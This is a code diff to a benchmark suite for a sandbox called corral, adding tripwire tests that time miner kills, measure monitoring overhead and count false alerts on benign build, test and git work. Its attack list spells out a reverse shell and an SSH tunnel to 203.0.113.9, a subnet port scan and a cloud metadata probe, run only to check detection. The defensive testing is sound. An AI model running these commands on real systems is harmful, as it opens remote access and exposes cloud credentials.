@@ -32,6 +32,7 @@ from typing import Literal
 
 import psutil
 
+from corral.policy import Policy
 from corral.runtime.sandbox import Sandbox
 
 MIB = 1 << 20
@@ -72,9 +73,10 @@ class Target:
     kind "max": the headline value of corral is under `limit`.
     kind "max_delta": corral's headline is at most `limit` above the baseline's.
     kind "min_ratio": corral's headline is at least `limit` times the baseline's (throughputs).
+    kind "max_ratio": corral's headline is at most `limit` times the baseline's (slowdowns).
     """
 
-    kind: Literal["max", "max_delta", "min_ratio"]
+    kind: Literal["max", "max_delta", "min_ratio", "max_ratio"]
     limit: float
     text: str
 
@@ -113,6 +115,8 @@ class Result:
             return self.value(self.corral) < t.limit
         if t.kind == "max_delta":
             return None if self.delta is None else self.delta <= t.limit
+        if t.kind == "max_ratio":
+            return None if self.ratio is None else self.ratio <= t.limit
         return None if self.ratio is None else self.ratio >= t.limit
 
     def to_json(self) -> dict[str, object]:
@@ -421,7 +425,6 @@ def _host_python(script: str, *args: str) -> str:
 
 @benchmark("egress")
 def bench_egress(cfg: Config) -> list[Result]:
-    from corral.policy import Policy
 
     runs = 3 if cfg.quick else 11
     size = (16 if cfg.quick else 256) << 20
@@ -480,6 +483,237 @@ def bench_egress(cfg: Config) -> list[Result]:
             notes={"includes": "DNS-free (hosts:), attribution, policy check, upstream dial"},
         ),
     ]
+
+
+_NUMERIC_JOB = """
+import multiprocessing as mp, os, sys, time
+def work(n):
+    s = 0.0
+    for i in range(n):
+        s += (i % 7) * 0.5
+    return s
+if __name__ == "__main__":
+    n = int(sys.argv[1])
+    t = time.perf_counter()
+    with mp.Pool(os.cpu_count()) as pool:
+        pool.map(work, [n] * os.cpu_count())
+    print(time.perf_counter() - t)
+"""
+
+# Benign agent work: a parallel C build, a test suite, git. Written to a file and run with sh.
+_BENIGN = "\n".join(
+    [
+        "set -e",
+        "mkdir -p proj && cd proj",
+        *[f"printf 'int f{i}(int x) {{ return x * {i}; }}\\n' > f{i}.c" for i in range(1, 9)],
+        "printf 'int f1(int);\\nint main(void) { return f1(0); }\\n' > main.c",
+        "printf 'OBJS = main.o f1.o f2.o f3.o f4.o f5.o f6.o f7.o f8.o\\napp: $(OBJS)\\n"
+        "\\tcc -o $@ $(OBJS)\\n' > Makefile",
+        "make -j2 -s && ./app",
+        "printf 'import unittest\\nclass T(unittest.TestCase):\\n"
+        "    def test_a(self): self.assertEqual(1 + 1, 2)\\n' > test_x.py",
+        "python3 -m unittest -q test_x 2>/dev/null",
+        'g() { git -c user.email=agent@example.internal -c user.name=agent "$@"; }',
+        "g init -q . && g add -A && g commit -qm one",
+        "g checkout -q -b topic && echo '/* x */' >> main.c && g commit -qam two",
+        "g checkout -q - && g merge -q topic && g log --oneline | wc -l",
+        "",
+    ]
+)
+
+
+def _tripwire_policy(enabled: bool, **responses: str) -> Policy:
+    return Policy.from_dict(
+        {
+            "version": 1,
+            "resources": {"cpu": float(os.cpu_count() or 1)},
+            "tripwires": {"enabled": enabled, "responses": responses},
+        }
+    )
+
+
+def _host_pid(sb: Sandbox, ns_pid: int) -> int | None:
+    assert sb._cgroup is not None
+    for pid in sb._cgroup.pids():
+        try:
+            with open(f"/proc/{pid}/status") as f:
+                for line in f:
+                    if line.startswith("NSpid:") and int(line.split()[-1]) == ns_pid:
+                        return pid
+        except OSError:
+            continue
+    return None
+
+
+def _wait_gone(sb: Sandbox, pid: int, timeout: float) -> bool:
+    """Poll every 5 ms until `pid` left the sandbox; False if it outlived `timeout`."""
+    assert sb._cgroup is not None
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if pid not in sb._cgroup.pids():
+            return True
+        time.sleep(0.005)
+    return False
+
+
+@benchmark("tripwires")
+def bench_tripwires(cfg: Config) -> list[Result]:
+    runs = 2 if cfg.quick else 5
+    return [
+        _bench_overhead(cfg, runs),
+        *_bench_miner_kill(runs),
+        *_bench_first_attempt(),
+        _bench_benign(),
+    ]
+
+
+def _bench_overhead(cfg: Config, runs: int) -> Result:
+    """An all-core CPU-bound job in two sandboxes alike but for monitoring, runs interleaved."""
+    _progress(f"tripwires: monitoring overhead ({runs} x 2 runs of an all-core job)")
+    work = "300000" if cfg.quick else "6000000"
+    on = Sandbox(_tripwire_policy(True), keep_workspace=False)
+    off = Sandbox(_tripwire_policy(False), keep_workspace=False)
+    monitored: list[float] = []
+    plain: list[float] = []
+    try:
+        for sb in (on, off):
+            sb.write_file("job.py", _NUMERIC_JOB)
+        for _ in range(runs):
+            for sb, out in ((off, plain), (on, monitored)):
+                r = sb.exec(["python3", "job.py", work], text=True, timeout=600)
+                if r.exit_code != 0:
+                    raise BenchError(f"numeric job failed: {r.stderr!r}")
+                out.append(float(str(r.stdout)))
+        alerts = len(on.alerts())
+    finally:
+        on.close()
+        off.close()
+    return Result(
+        key="monitoring_overhead",
+        what="all-core CPU job, monitored",
+        unit="s",
+        corral=Measure.of(monitored),
+        baseline=Measure.of(plain),
+        baseline_name="tripwires off",
+        target=Target("max_ratio", 1.02, "<= +2 %"),
+        notes={"alerts": alerts, "workers": os.cpu_count() or 1},
+    )
+
+
+def _bench_miner_kill(runs: int) -> list[Result]:
+    # A miner with a clean name and command line that outlives its command: only the CPU rule can
+    # see it. Timed from the command's return, when the miner is already running.
+    _progress(f"tripwires: miner after the command ({runs} runs)")
+    cpu_kill: list[float] = []
+    with Sandbox(_tripwire_policy(True), keep_workspace=False) as sb:
+        for i in range(runs):
+            r = sb.exec(f"python3 -c 'while True: pass' {i} >/dev/null 2>&1 & echo $!", text=True)
+            t0 = time.monotonic()
+            pid = _host_pid(sb, int(str(r.stdout)))
+            if pid is None:
+                raise BenchError("the background miner did not start")
+            if not _wait_gone(sb, pid, 20):
+                raise BenchError("the CPU rule did not kill a miner within 20 s")
+            cpu_kill.append(time.monotonic() - t0)
+    # A miner its content gives away: killed at its execve, before it runs an instruction.
+    _progress(f"tripwires: miner recognised at exec ({runs} runs)")
+    exec_kill: list[float] = []
+    with Sandbox(_tripwire_policy(True), keep_workspace=False) as sb:
+        sb.write_file("/tmp/kworker", "#!/bin/sh\n# mining.subscribe\nwhile :; do :; done\n")
+        sb.exec("chmod +x /tmp/kworker")
+        for _ in range(runs):
+            t0 = time.monotonic()
+            r = sb.exec(["/tmp/kworker"])
+            if r.exit_code != 137:
+                raise BenchError(f"the renamed miner was not killed (exit {r.exit_code})")
+            exec_kill.append(time.monotonic() - t0)
+    return [
+        Result(
+            key="miner_cpu_kill",
+            what="miner (CPU only) started -> killed",
+            unit="s",
+            corral=Measure.of(cpu_kill),
+            target=Target("max", 2.0, "< 2 s"),
+            notes={"rule": "cpu burnt outside a command", "sample_interval_s": 0.25, "sustained_s": 1},
+        ),
+        Result(
+            key="miner_exec_kill",
+            what="miner (by content) started -> killed",
+            unit="s",
+            corral=Measure.of(exec_kill),
+            target=Target("max", 2.0, "< 2 s"),
+            notes={"rule": "miner content", "instructions_run": 0},
+        ),
+    ]
+
+
+_ATTACKS: list[tuple[str, str, str | list[str]]] = [
+    # A scan by a program no rule knows by name: the network rules must see it.
+    (
+        "probe",
+        "probe",
+        [
+            "python3",
+            "-c",
+            "import socket\nfor i in range(1, 17):\n"
+            "    try: socket.create_connection(('10.0.0.%d' % i, 22), 1)\n    except OSError: pass",
+        ],
+    ),
+    ("tunnel", "tunnel", "ssh -o BatchMode=yes -o ConnectTimeout=3 -N -R 9000:localhost:22 u@203.0.113.9"),
+    ("reverse shell", "reverse_shell", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
+    ("metadata probe", "probe", "curl -s -m 3 --noproxy '*' http://169.254.169.254/latest/meta-data/"),
+]
+
+
+def _bench_first_attempt() -> list[Result]:
+    """How many connection attempts each attack made before its alert (0: caught at its start)."""
+    _progress("tripwires: first-attempt detection (probe, tunnel, reverse shell)")
+    out: list[Result] = []
+    for name, category, command in _ATTACKS:
+        with Sandbox(_tripwire_policy(True, **{category: "alert"}), keep_workspace=False) as sb:
+            sb.exec(command, timeout=60)
+            events = sb.events()
+        first = next((e for e in events if e.type == "alert" and e.category == category), None)
+        if first is None:
+            raise BenchError(f"{name}: no {category} alert for {command!r}")
+        before = events[: events.index(first)]
+        attempts = sum(1 for e in before if e.type == "net.connect")
+        out.append(
+            Result(
+                key=f"first_attempt_{category}_{name.split()[0]}",
+                what=f"{name}: connection attempts up to the alert",
+                unit="",
+                corral=Measure.single(attempts),
+                target=Target("max", 1.5, "at the first"),
+                notes={
+                    "rule": first.rule,
+                    "alert_after_start_s": round((first.time - events[0].time).total_seconds(), 3),
+                },
+            )
+        )
+    return out
+
+
+def _bench_benign() -> Result:
+    _progress("tripwires: benign work (make -j2, unittest, git)")
+    with Sandbox(_tripwire_policy(True), keep_workspace=False) as sb:
+        sb.write_file("benign.sh", _BENIGN)
+        r = sb.exec(["sh", "benign.sh"], timeout=300, text=True)
+        if r.exit_code != 0:
+            raise BenchError(f"benign work failed: {r.stderr!r}")
+        alerts = [f"{a.rule}: {a.message}" for a in sb.alerts()]
+        programs = sum(1 for e in sb.events() if e.type == "proc.exec")
+    notes: dict[str, float | int | str] = {"programs_started": programs}
+    if alerts:
+        notes["first_alert"] = alerts[0]
+    return Result(
+        key="benign_alerts",
+        what="alerts on benign work",
+        unit="",
+        corral=Measure.single(len(alerts)),
+        target=Target("max", 0.5, "none"),
+        notes=notes,
+    )
 
 
 @benchmark("idle_memory")
